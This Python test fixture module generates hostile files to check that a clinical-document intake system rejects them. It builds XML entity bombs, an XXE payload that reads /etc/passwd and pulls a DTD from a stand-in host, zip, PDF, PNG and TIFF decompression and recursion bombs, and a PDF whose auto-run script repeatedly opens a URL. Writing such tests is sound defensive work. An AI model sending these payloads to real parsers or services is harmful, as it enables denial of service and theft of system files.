"""Files made to break a reader: bombs, lies about sizes, endless nesting. Each is small; what it wants is not."""

import random
import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image

from tests.intake_torture.notes import hostile_json, wide_json
from tests.referrals.intake.parsers.made import packed

MB = 1024**2


def billion_laughs(n: int) -> bytes:
    entities = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12))
    return (
        f'<?xml version="1.0"?><!DOCTYPE ClinicalDocument [<!ENTITY a0 "{n}">{entities}]>'
        "<ClinicalDocument>&a11;</ClinicalDocument>"
    ).encode()


def quadratic_entity(n: int) -> bytes:
    return (
        f'<!DOCTYPE ClinicalDocument [<!ENTITY a "{"x" * 100_000}{n}">]><ClinicalDocument>{"&a;" * 100_000}'
        "</ClinicalDocument>"
    ).encode()


def external_entity(n: int) -> bytes:
    return (
        f'<!DOCTYPE ClinicalDocument [<!ENTITY x{n} SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM '
        f'"http://192.0.2.1/x.dtd">%y;]><ClinicalDocument>&x{n};</ClinicalDocument>'
    ).encode()


def deep_xml(n: int) -> bytes:
    return b"<ClinicalDocument>" + b"<a>" * (100_000 + n) + b"</a>" * (100_000 + n) + b"</ClinicalDocument>"


def wide_xml(n: int) -> bytes:
    return b'<ClinicalDocument xmlns="urn:hl7-org:v3">' + b"<a/>" * 3_000_000 + b"%d</ClinicalDocument>" % n


def zip_ratio(n: int) -> bytes:
    return packed({f"note{n}.txt": b" " * 300 * MB})


def zip_nested(n: int) -> bytes:
    inner = packed({"note.txt": f"Dear Dr. Gray {n}".encode()})
    for level in range(8):
        inner = packed({f"{level}-{copy}.zip": inner for copy in range(10)})
    return inner


def zip_overlapping(n: int) -> bytes:
    """Every entry of the directory points at the same data: each small, all of them a flood."""
    data = zlib.compress(b"Dear Dr. Gray " * 70_000 + b"%d" % n)[2:-4]
    name = b"a.txt"
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, 0, len(data), 980_001, len(name), 0) + name + data
    entry = struct.pack(
        "<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 0, 0, len(data), 980_001, len(name), 0, 0, 0, 0, 0, 0
    )  # fmt: skip
    directory = (entry + name) * 900
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 900, 900, len(directory), len(local), 0)
    return local + directory + end


def zip_of_a_million_names(n: int) -> bytes:
    entry = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * 400_000
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a%d" % n
    return local + directory + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1, 1, len(directory), len(local), 0)


def word_bomb(n: int) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", b"<document>" + b" " * 200 * MB + b"%d</document>" % n)
    return out.getvalue()


def pdf_objects(*bodies: bytes) -> bytes:
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(bodies) + 1
    trailer = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n%s%s" % (size, table, trailer)


def _pdf_page(
    content: bytes, *more: bytes, box: bytes = b"0 0 612 792", resources: bytes = b"", how: bytes = b""
) -> bytes:
    return pdf_objects(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<<%s>>>>" % (box, resources),
        b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), how, content),
        *more,
    )


def pdf_flate(n: int) -> bytes:
    """Two layers of compression around a gigabyte of spaces."""
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(b" " * MB) for _ in range(1024)) + packer.flush()
    return _pdf_page(zlib.compress(once, 9), how=b"/Filter[/FlateDecode/FlateDecode]/N %d" % n)


def pdf_recursive_form(n: int) -> bytes:
    form = (
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>/Length 12>>\nstream\n"
        b"/F Do /F Do \nendstream"
    )
    return _pdf_page(b"/F Do %%%d" % n, form, resources=b"/XObject<</F 5 0 R>>")


def pdf_forms_in_forms(n: int) -> bytes:
    """Each of 30 forms draws the next twice: a billion at the end."""
    forms = [
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F %d 0 R>>>>/Length 12>>\nstream\n"
        b"/F Do /F Do \nendstream" % (6 + level)
        for level in range(30)
    ]
    last = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length 9>>\nstream\n0 0 9 9 re\nendstream"
    return _pdf_page(b"/F Do %%%d" % n, *forms, last, resources=b"/XObject<</F 5 0 R>>")


def pdf_huge_page(n: int) -> bytes:
    return _pdf_page(b"0 0 m 9 9 l S %%%d" % n, box=b"0 0 99999999 99999999")


def pdf_million_pages(n: int) -> bytes:
    kids = b"3 0 R " * 200_000
    return pdf_objects(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count 200000>>" % kids,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/N %d>>" % n,
    )


def pdf_script(n: int) -> bytes:
    return pdf_objects(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(while(true){app.launchURL('http://192.0.2.1')})>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/N %d>>" % n,
    )


def png(width: int, height: int, body: bytes) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(body)) + chunk(b"IEND", b"")


def png_giant(n: int) -> bytes:
    return png(2_000_000_000, 2_000_000_000, b"%d" % n)


def png_large(n: int) -> bytes:
    """30,000 dots square in 900 kB."""
    return png(30_000, 30_000, b"\0" * 900_000_000 + b"%d" % n)


def png_comment_bomb(n: int) -> bytes:
    text = b"Comment\0\0" + zlib.compress(b"x" * 500 * MB + b"%d" % n)
    whole = png(10, 10, b"\0" * 110)
    chunk = struct.pack(">I", len(text)) + b"zTXt" + text + struct.pack(">I", zlib.crc32(b"zTXt" + text))
    return whole[:33] + chunk + whole[33:]


def tiff_frames(n: int) -> bytes:
    frames = [Image.new("1", (8, 8), n % 2)] * 3_000
    out = BytesIO()
    frames[0].save(out, "TIFF", save_all=True, append_images=frames[1:])
    return out.getvalue() + b"%d" % n


def tiff_endless(n: int) -> bytes:
    """Every directory names itself as the next one."""
    entries = b"".join(
        struct.pack("<HHII", *entry) for entry in ((256, 4, 1, 8), (257, 4, 1, 8), (273, 4, 1, 8), (279, 4, 1, 1))
    )
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 4) + entries + struct.pack("<I", 8) + b"%d" % n


def tiff_gigabytes(n: int) -> bytes:
    entries = b"".join(
        struct.pack("<HHII", *entry)
        for entry in ((256, 4, 1, 60_000), (257, 4, 1, 60_000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
                      (273, 4, 1, 8), (278, 4, 1, 60_000), (279, 4, 1, 3_600_000_000))
    )  # fmt: skip
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 8) + entries + struct.pack("<I", 0) + b"%d" % n


def hl7_segments(n: int) -> bytes:
    return b"MSH|^~\\&|A|B|C|D|2026||MDM^T02|%d|P|2.5\r" % n + b"OBX|1|TX|a||b\r" * 1_000_000


def hl7_messages(n: int) -> bytes:
    return b"MSH|^~\\&|A|B|C|D|2026||MDM^T02|%d|P|2.5\rPID|1\r" % n * 100_000


def hl7_line(n: int) -> bytes:
    return b"MSH|^~\\&|A|B|C|D|2026||MDM^T02|%d|P|2.5\rOBX|1|TX|a||" % n + b"b~^&\\" * 2_000_000


def rtf_deep(n: int) -> bytes:
    return b"{\\rtf1 %d " % n + b"{" * 2_000_000


def rtf_picture(n: int) -> bytes:
    return b"{\\rtf1 Dear {\\pict " + b"00" * 5_000_000 + b"}%d}" % n


def html_deep(n: int) -> bytes:
    return b"<html><body>%d" % n + b"<div>" * 1_000_000


def html_attributes(n: int) -> bytes:
    return b"<html><body><p " + b"a=" * 2_000_000 + b">%d" % n


def text_long(n: int) -> bytes:
    return b"Patient: " + b"A" * 10_000_000 + b" %d" % n


def text_labels(n: int) -> bytes:
    return b"Patient: Rosa Delgado DOB: 03/04/1961 %d\n" % n * 200_000


def text_regex(n: int) -> bytes:
    return b"Date of birth: " + b"1/" * 200_000 + b" " * 200_000 + b"Dr. " * 100_000 + b"%d" % n


JSON = {
    "deep": lambda n: hostile_json(200_000 + n),
    "wide": lambda n: wide_json(100_000 + n),
    "number": lambda n: b'{"resourceType":"Patient","id":' + b"9" * (5_000_000 + n) + b"}",
}
# Hostile files by name; ``CHEAP`` ones are made and refused within a blink.
CHEAP: dict[str, Callable[[int], bytes]] = {
    "laughs.xml": billion_laughs, "quadratic.xml": quadratic_entity, "external.xml": external_entity,
    "deep.xml": deep_xml, "overlap.zip": zip_overlapping, "nested.zip": zip_nested, "recursive.pdf": pdf_recursive_form,
    "huge page.pdf": pdf_huge_page, "script.pdf": pdf_script, "giant.png": png_giant, "endless.tif": tiff_endless,
    "gigabytes.tif": tiff_gigabytes, "deep.json": JSON["deep"], "number.json": JSON["number"], "deep.rtf": rtf_deep,
    "messages.hl7": hl7_messages,
}  # fmt: skip
COSTLY: dict[str, Callable[[int], bytes]] = {
    "ratio.zip": zip_ratio, "names.zip": zip_of_a_million_names, "bomb.docx": word_bomb, "flate.pdf": pdf_flate,
    "forms.pdf": pdf_forms_in_forms, "pages.pdf": pdf_million_pages, "large.png": png_large,
    "comment.png": png_comment_bomb, "frames.tif": tiff_frames, "segments.hl7": hl7_segments, "line.hl7": hl7_line,
    "picture.rtf": rtf_picture, "deep.html": html_deep, "attributes.html": html_attributes, "long.txt": text_long,
    "labels.txt": text_labels, "regex.txt": text_regex, "wide.json": JSON["wide"], "wide.xml": wide_xml,
}  # fmt: skip


def unknown(chance: random.Random, n: int) -> dict[str, bytes]:
    """Kinds of files nobody reads."""
    return {
        "letter.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500 + b"%d" % n,
        "setup.exe": b"MZ\x90\0" + b"\0" * 300 + b"%d" % n,
        "run.sh": b"#!/bin/sh\ntouch /tmp/refloop-was-here # %d\n" % n,
        "noise.bin": chance.randbytes(2_000),
        "gigabyte.wav": b"RIFF\xff\xff\xff\x7fWAVEfmt %d" % n,
        "sheet.xlsx": packed({"[Content_Types].xml": b"%d" % n, "xl/workbook.xml": b""}),
    }
